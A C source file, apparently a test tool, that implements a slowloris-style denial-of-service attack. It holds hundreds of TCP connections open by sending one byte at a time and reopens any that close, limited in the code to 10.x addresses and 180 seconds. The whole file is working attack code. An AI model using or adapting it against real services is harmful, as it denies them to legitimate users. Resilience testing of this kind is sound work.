// SPDX-License-Identifier: GPL-2.0-only
/*
 * A slow attack on any service that waits for a line: connections on which a
 * beginning is sent and then a byte now and then, so that they stay open and
 * another's place is taken. What the server closes is opened again. For tests
 * inside the VM; it takes private addresses only, and stops after a given time.
 *
 * What lives here: this one attack. What doesn't: floods (connects.c).
 */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <poll.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define MAX_CONNS	800
#define MAX_SECONDS	180

struct conn {
	int fd;		/* -1: none */
	bool began;	/* its beginning was sent */
	double next;	/* when something is to be done about it */
};

static double seconds(void)
{
	struct timespec t;

	clock_gettime(CLOCK_MONOTONIC, &t);
	return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

static int begin(const struct sockaddr_in *to)
{
	int fd = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0);

	if (fd >= 0 && connect(fd, (const struct sockaddr *)to, sizeof(*to)) && errno != EINPROGRESS) {
		close(fd);
		return -1;
	}
	return fd;
}

/* Has the server ended it? What it says is read and not looked at. */
static bool ended(int fd)
{
	char buf[512];
	ssize_t n;

	while ((n = recv(fd, buf, sizeof(buf), 0)) > 0)
		;
	return n == 0 || (errno != EAGAIN && errno != ENOTCONN);
}

/* Return: whether the connection still stands. */
static bool say(struct conn *c, const char *beginning)
{
	const char *what = c->began ? "x" : beginning;

	if (ended(c->fd))
		return false;
	if (send(c->fd, what, strlen(what), MSG_NOSIGNAL) < 0)
		return errno == EAGAIN || errno == ENOTCONN;
	c->began = true;
	return true;
}

static void run(struct conn *conns, int n, const struct sockaddr_in *to, const char *beginning,
		double every, double until)
{
	double now = seconds(), start = now;
	long opened = 0;
	int i;

	/* Ten are begun in a second, and each is at its own point of the interval. */
	for (i = 0; i < n; i++)
		conns[i] = (struct conn){ .fd = -1, .next = start + i / 10.0 };
	for (; now < until; poll(NULL, 0, 50), now = seconds()) {
		for (i = 0; i < n; i++) {
			if (conns[i].next > now)
				continue;
			if (conns[i].fd >= 0 && !say(&conns[i], beginning)) {
				close(conns[i].fd);
				conns[i] = (struct conn){ .fd = -1, .next = now + 1 };
			} else if (conns[i].fd < 0) {
				conns[i] = (struct conn){ .fd = begin(to), .next = now + 0.3 };
				opened += conns[i].fd >= 0;
			} else {
				conns[i].next = now + every;
			}
		}
	}
	printf("%ld connections opened, %d at a time\n", opened, n);
}

int main(int argc, char **argv)
{
	struct sockaddr_in to = { .sin_family = AF_INET };
	static struct conn conns[MAX_CONNS];
	double every, secs;
	int n, port;

	if (argc != 7)
		goto usage;
	n = atoi(argv[1]);
	every = atof(argv[2]);
	secs = atof(argv[3]);
	port = atoi(argv[4]);
	to.sin_port = htons((uint16_t)port);
	if (n < 1 || n > MAX_CONNS || every < 0.1 || secs < 1 || secs > MAX_SECONDS || port < 1 ||
	    port > 65535 || inet_pton(AF_INET, argv[6], &to.sin_addr) != 1 ||
	    ntohl(to.sin_addr.s_addr) >> 24 != 10)
		goto usage;
	run(conns, n, &to, argv[5], every, seconds() + secs);
	return 0;
usage:
	fprintf(stderr, "usage: trickle CONNECTIONS EVERY-SECONDS FOR-SECONDS PORT BEGINNING 10.x.y.z\n"
			"  at most %d connections and %d seconds\n", MAX_CONNS, MAX_SECONDS);
	return 2;
}
